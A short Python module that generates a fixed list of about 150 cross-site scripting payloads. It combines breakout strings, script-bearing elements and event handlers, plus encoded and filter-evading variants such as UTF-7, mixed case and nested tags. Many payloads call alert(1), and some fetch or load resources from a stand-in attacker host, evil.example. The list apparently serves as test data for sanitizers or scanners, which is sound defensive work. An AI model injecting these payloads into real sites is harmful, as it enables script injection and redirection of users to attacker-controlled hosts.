"""150 payloads of markup and script, made from parts: ways to break out, elements and handlers, schemes, encodings."""

CALLS = ("alert(1)", "fetch('//evil.example/')")
OUTS = ("", '">', "'>", "</script>", "</textarea>", "</title>", "-->", "]]>", "</style>", "`", "{{7*7}}{%raw%}")
ELEMENTS = (
    "<script>{call}</script>", "<img src=x onerror={call}>", "<svg onload={call}>", "<svg><script>{call}</script></svg>",
    "<iframe src=javascript:{call}>", "<a href=javascript:{call} autofocus tabindex=1 onfocus={call}>x</a>", "<body onload={call}>",
    "<details open ontoggle={call}>", "<video><source onerror={call}></video>", "<math><mi xlink:href=data:x,<script>{call}</script>>",
    "<form action=javascript:{call}><button autofocus onfocus={call}>", "<object data=data:text/html,<script>{call}</script>>",
    "<link rel=stylesheet href=//evil.example/x.css>", "<meta http-equiv=refresh content='0;url=//evil.example/'>",
    "<base href=//evil.example/>", "<style>@import '//evil.example/x.css';</style>", "<img src=//evil.example/x.png>",
)  # fmt: skip
OTHERS = (
    "javascript:alert(1)", "JaVaScRiPt:alert(1)", "data:text/html,<script>alert(1)</script>", "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e", "%3Cscript%3Ealert(1)%3C/script%3E", "<scr<script>ipt>alert(1)</script>",
    "<<script>alert(1)//<</script>", "<script\x0c>alert(1)</script>", "<img\tsrc=x\tonerror=alert(1)>", "<!--><script>alert(1)</script>",
    "\u2028alert(1)\u2029", "+ADw-script+AD4-alert(1)+ADw-/script+AD4-", "'-alert(1)-'", "\";alert(1);//", "${alert(1)}",
    "<plaintext>", "<xmp><script>alert(1)</script>", "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>", "<template><script>alert(1)</script></template>",
)  # fmt: skip


def payloads():
    """Return at least 150 different payloads, always the same ones."""
    made = [out + element.format(call=CALLS[n % 2]) for out in OUTS for n, element in enumerate(ELEMENTS)]
    return list(dict.fromkeys((*OTHERS, *made)))[:170]
